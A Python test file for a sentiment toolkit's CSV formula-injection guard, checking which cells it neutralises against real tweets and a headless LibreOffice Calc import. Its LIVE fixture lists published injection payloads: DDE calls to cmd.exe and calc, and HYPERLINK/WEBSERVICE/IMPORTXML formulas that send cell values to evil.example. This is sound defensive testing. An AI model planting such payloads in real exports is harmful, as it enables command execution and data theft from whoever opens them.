"""The formula guard (sentimentkit/io/formula.py): its rule on many cells, its share on real tweets,
and what a real spreadsheet engine (LibreOffice Calc, headless) makes of the CSV it writes."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest

from sentimentkit.config import Settings
from sentimentkit.io.formula import (
    FORMULA_GUARDS,
    _parse,
    check_formula_guard,
    is_live_formula,
    needs_neutralising,
    neutralise_cell,
    neutralise_formulas,
)
from sentimentkit.io.write import csv_text, result_csv_bytes

# Cells a spreadsheet evaluates or follows: auto must neutralise every one.
LIVE = [
    # "=" always, whatever follows (Calc makes "=)" and "==1" formulas), and a leading TAB or CR
    "=1+1", "=)", "==1", "=", "=A1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "\t=1+1", "\r=1+1",
    "\tplain", "=cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    # OWASP and published payloads starting with + - @
    "-cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "-MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", '+HYPERLINK("http://x","y")',
    '-WEBSERVICE("http://evil.example/"&A1)', '+_xlfn.WEBSERVICE("http://x")', '@HYPERLINK("http://x")',
    '+IMPORTXML(A1,"//a")', "@SUM(A1:A2)", "@sum(1;2)", "+LAMBDA(x,x)(1)", "-thisIsNoFunction(1)",
    '-x y HYPERLINK("u")',  # Excel's space is the intersection operator: the call still runs
    # references: the cell would show another cell's value
    "+A1", "-A1", "@A1", "+A1*2", "-$A$1", "-A1:B2", "-A:A", "-$1:$1", "-2:30", "-UA123", "+R1C1", "-rc",
    "-R[1]C[-1]", "-Sheet1!A1", "-'My sheet'!A1", "-Sheet1.A1", "-[Book1.xlsx]Sheet1!A1", "-[1]Sheet1!A1",
    "-Table1[Col]", "@A1:A9 @B1", "+ A1", "@ A1", "-a1 b1",
    # computations over literals: the cell would show a different value
    "-2+3", "- 1", "--1", "-+-1", "-(1)", "-true", "-TRUE", '-"x"', "-#REF!", "-{1,2;3,4}", "-5%", "@1",
    "@1+1", "@-1", "@(1)", "-1,000",
    # a word directly followed by "(" is a function call (Excel reads the words around it as names)
    "@united thanks(not)", "@user Chelsea Clinton(CFR)",
]  # fmt: skip

# Ordinary text: auto must leave every one byte-identical.
TEXT = [
    "@united thanks for nothing", "-5 degrees", "+1 great service", "- so true", "@user :)", "-- end",
    "@united", "@user", "-hello", "+hello", "-hello world", "@united flight UA123 delayed", "-A1 is great",
    "-2:30 left", "- (hi)", "@united why (again)?", "-x&y", "-1-night", "@@", "-", "+", "@", "-.-", "-=",
    "+?+ knowledge", "-- David Blaine", "-10 in the last round", "+800 more", "-agent april", "-1e5x",
    "-1 2", "-a b", "+44 20 7946 0958", "+1 (555) 123-4567", "-@user hi", "@user don't", "-#hashtag",
    "@Apple Pay = Compuserve | BTC = the internet", "@user love it | so good!", "-12.5", "+3", "-1e5",
    "@user I got the f(x) album 2 days ago", "-- he mumbled something like Remus Lupin, 7th year",
    "@user 😂😂", "-“quoted”", " =1+1", "\n=1+1", "plain", "",
]  # fmt: skip

PLAIN_NUMBERS = ("-12.5", "+3", "-1e5")  # never neutralised, in any mode


@pytest.mark.parametrize("cell", LIVE)
def test_auto_neutralises_what_a_spreadsheet_would_run(cell: str) -> None:
    assert needs_neutralising(cell, "auto")
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", TEXT)
def test_auto_leaves_ordinary_text_byte_identical(cell: str) -> None:
    assert not needs_neutralising(cell, "auto")
    assert neutralise_cell(cell) is cell


def test_all_is_the_blanket_owasp_rule_and_off_changes_nothing() -> None:
    for cell in LIVE + TEXT:
        risky = cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell not in PLAIN_NUMBERS
        assert needs_neutralising(cell, "all") == risky, cell
        assert not needs_neutralising(cell, "off")
    frame = pd.DataFrame({"=c": ["=1+1", "@user hi", "-x", 5, None]})
    off = neutralise_formulas(frame, "off")
    assert off.equals(frame) and off is not frame and list(off.columns) == ["=c"]
    assert neutralise_formulas(frame, "all")["'=c"].tolist()[:4] == ["'=1+1", "'@user hi", "'-x", 5]
    assert neutralise_formulas(frame)["'=c"].tolist()[:4] == ["'=1+1", "@user hi", "-x", 5]
    assert frame["=c"].tolist()[:3] == ["=1+1", "@user hi", "-x"]  # the input is not modified


def test_the_shortcut_gives_the_answer_of_the_full_parse(shared_data: Path) -> None:
    """is_live_formula stops at the first plain name when a cell has no "(" or "|"; on real tweets
    that shortcut must not change a single answer."""
    texts = pd.read_csv(shared_data / "test.csv", dtype=str, keep_default_na=False)["text"]
    cells = [t for t in texts if t[:1] in "+-@"] + [c for c in LIVE + TEXT if c[:1] in "+-@"]
    for cell in cells:
        parsed = _parse(cell)
        full = parsed is not None and (parsed.has_call or parsed.has_link or not parsed.has_name)
        assert is_live_formula(cell) == full, cell


def test_a_wrong_mode_is_one_clear_line(monkeypatch: pytest.MonkeyPatch) -> None:
    assert [check_formula_guard(m) for m in (" AUTO", "all", "Off")] == ["auto", "all", "off"]
    assert FORMULA_GUARDS == ("auto", "all", "off")
    with pytest.raises(ValueError, match=r"^The formula guard must be one of auto, all, off, got 'some'"):
        neutralise_formulas(pd.DataFrame({"a": ["x"]}), "some")
    monkeypatch.setenv("SENTIMENTKIT_FORMULA_GUARD", "All")
    assert Settings.from_env().formula_guard == "all"
    monkeypatch.setenv("SENTIMENTKIT_FORMULA_GUARD", "")
    assert Settings.from_env().formula_guard == "auto" == Settings().formula_guard
    monkeypatch.setenv("SENTIMENTKIT_FORMULA_GUARD", "sometimes")
    with pytest.raises(ValueError, match=r"^SENTIMENTKIT_FORMULA_GUARD must be auto .* got 'sometimes'$"):
        Settings.from_env()


def test_the_writers_take_the_mode() -> None:
    frame = pd.DataFrame({"text": ["@united thanks for nothing", "=1+1", "-A1"]})
    assert csv_text(frame) == "text\n@united thanks for nothing\n'=1+1\n'-A1\n"
    assert csv_text(frame, formula_guard="all") == "text\n'@united thanks for nothing\n'=1+1\n'-A1\n"
    assert result_csv_bytes(frame, "off") == "text\n@united thanks for nothing\n=1+1\n-A1\n".encode(
        "utf-8-sig"
    )


# --- real tweets ---------------------------------------------------------------------------------------
FUNCTION_CALL = re.compile(r"[^\W\d][\w.]*\(")


def test_auto_changes_almost_no_real_tweet_and_each_change_is_a_formula(shared_data: Path) -> None:
    """SemEval-2017 (mentions anonymised as @user), the Apple tweets (real @mentions) and the
    unlabeled tweets: `all` changes about one cell in five, `auto` about one in 15,000, and every cell
    it changes starts with "=" or holds a function call (a word directly followed by "(")."""
    files = [shared_data / f"{s}.csv" for s in ("train", "validation", "test")]
    files += [
        shared_data.parent / "apple_tweets" / "tweets.csv",
        shared_data.parent / "unlabeled" / "tweets.csv",
    ]
    texts = pd.concat(
        [pd.read_csv(f, dtype=str, keep_default_na=False)["text"] for f in files if f.is_file()],
        ignore_index=True,
    )
    assert len(texts) > 60_000
    auto = neutralise_formulas(texts.to_frame())["text"]
    changed = texts[auto != texts]
    blanket = (neutralise_formulas(texts.to_frame(), "all")["text"] != texts).sum()
    assert blanket / len(texts) > 0.15  # the old default: every reply to @user
    assert len(changed) / len(texts) < 1e-4
    for cell in changed:
        assert cell.startswith("=") or FUNCTION_CALL.search(cell), cell
    assert (auto[auto == texts] == texts[auto == texts]).all()  # the rest is byte-identical
    apple = pd.read_csv(files[3], dtype=str, keep_default_na=False)["text"] if files[3].is_file() else None
    if apple is not None:  # 797 tweets that start with a real @mention: not one is touched
        assert neutralise_formulas(apple.to_frame())["text"].equals(apple)


# --- a real spreadsheet engine ---------------------------------------------------------------------------
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice is not installed (scripts/setup-dev.sh installs libreoffice-calc-nogui; CI runs this)",
)
# Calc's CSV import with every option that could make it evaluate more: UTF-8, comma, quote, from line
# 1, "detect special numbers", and token 13, "Evaluate formulas", on (the GUI's import dialog offers it).
CSV_FILTER = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"
_NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}


def _cell_text(cell: ET.Element) -> str:
    """A cell's shown text: its paragraphs joined by newlines, <text:s c="n"/> as n spaces."""

    def inline(element: ET.Element) -> str:
        out = element.text or ""
        for child in element:
            tag = child.tag.rsplit("}", 1)[1]
            if tag == "s":
                out += " " * int(child.get(f"{{{_NS['text']}}}c", "1"))
            elif tag == "tab":
                out += "\t"
            elif tag == "line-break":
                out += "\n"
            else:
                out += inline(child)
            out += child.tail or ""
        return out

    return "\n".join(inline(p) for p in cell.findall("text:p", _NS))


def calc_rows(csv_bytes: bytes, folder: Path) -> list[list[tuple[str, str | None]]]:
    """(shown text, formula or None) of every cell, row by row, as LibreOffice Calc imports the CSV."""
    source = folder / "scored.csv"
    source.write_bytes(csv_bytes)
    profile = folder / "profile"  # a private profile: runs in parallel with any other soffice
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", f"--infilter={CSV_FILTER}",
         "--convert-to", "fods", "--outdir", str(folder), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    root = ET.parse(folder / "scored.fods").getroot()
    rows = []
    for row in root.iter(f"{{{_NS['table']}}}table-row"):
        cells: list[tuple[str, str | None]] = []
        for cell in row.findall("table:table-cell", _NS):
            repeat = int(cell.get(f"{{{_NS['table']}}}number-columns-repeated", "1"))
            cells += [(_cell_text(cell), cell.get(f"{{{_NS['table']}}}formula"))] * min(repeat, 100)
        while cells and cells[-1] == ("", None):  # the empty filler to the sheet's last column
            cells.pop()
        if cells:
            rows.append(cells)
    return rows


def hostile_file() -> pd.DataFrame:
    """Attack payloads and ordinary tweets, one per row, in the column `text`."""
    cells = [
        c for c in LIVE + TEXT if c and "\r" not in c and "\n" not in c and not c.startswith(("\t", " "))
    ]
    return pd.DataFrame({"text": cells})


def evaluated_cells(mode: str, folder: Path) -> tuple[pd.Series, list[tuple[str, str | None]]]:
    """The written cells and what Calc read; Calc must read exactly one cell per written cell."""
    frame = hostile_file()
    data = csv_text(frame, formula_guard=mode).encode()
    written = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)["text"]
    cells = [row[0] for row in calc_rows(data, folder)[1:]]  # the header row first
    assert len(cells) == len(written) == len(frame)
    return written, cells


@needs_soffice
def test_calc_evaluates_nothing_auto_writes_and_reads_every_tweet_back(tmp_path: Path) -> None:
    written, cells = evaluated_cells("auto", tmp_path)
    assert [(text, formula) for text, formula in cells if formula] == []
    original = hostile_file()["text"]
    for cell, shown, (read, _) in zip(original, written, cells):
        if cell in PLAIN_NUMBERS:  # Calc reads them as numbers
            assert shown == cell and float(read) == float(cell)
        elif cell in TEXT:  # ordinary text: written and read back byte-identical
            assert shown == cell and read == cell, cell
        else:  # neutralised: Calc shows the cell as written, apostrophe included, as text
            assert shown == "'" + cell and read == shown, cell


@needs_soffice
def test_calc_does_evaluate_the_payloads_when_the_guard_is_off(tmp_path: Path) -> None:
    """The check above can see an evaluation: with the guard off, Calc turns the "=" payloads into
    formulas (HYPERLINK, WEBSERVICE, DDE...), so the same assertion fails."""
    _, cells = evaluated_cells("off", tmp_path)
    formulas = {text: formula for text, formula in cells if formula}
    assert len(formulas) >= 5
    assert any("HYPERLINK" in f for f in formulas.values()) and any("|" in f for f in formulas.values())
    assert formulas.get("2") == "of:=1+1"  # "=1+1" is shown as its value


def test_calc_reader_handles_spaces_tabs_and_line_breaks() -> None:
    xml = (
        f'<c xmlns:table="{_NS["table"]}" xmlns:text="{_NS["text"]}"><text:p>a<text:s text:c="3"/>b'
        "<text:tab/>c</text:p><text:p><text:s/>d</text:p></c>"
    )
    assert _cell_text(ET.fromstring(xml)) == "a   b\tc\n d"


@needs_soffice
def test_the_cli_output_opens_in_calc_without_formulas(tiny_model_path: Path, tmp_path: Path) -> None:
    """End to end: `predict` writes a hostile file's scores; Calc evaluates none of its cells."""
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    with open(source, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["text", "note"])
        for cell in hostile_file()["text"]:
            writer.writerow([cell, cell])
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    run = subprocess.run(
        [sys.executable, "-m", "sentimentkit", "predict", "--model", str(tiny_model_path), "--input", str(source),
         "--output", str(out), "--jobs", "1"],
        capture_output=True, text=True, env=env, timeout=300,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    rows = calc_rows(out.read_bytes(), tmp_path)
    assert len(rows) == len(hostile_file()) + 1 and len(rows[0]) == 2 + 9  # text, note, outputs
    assert [cell for row in rows for cell in row if cell[1]] == []
    for cell, row in zip(hostile_file()["text"], rows[1:]):  # the note column, as Calc shows it
        if cell in TEXT and cell not in PLAIN_NUMBERS:  # every ordinary tweet exactly as written
            assert row[1][0] == cell
        elif cell in LIVE:
            assert row[1][0] == "'" + cell
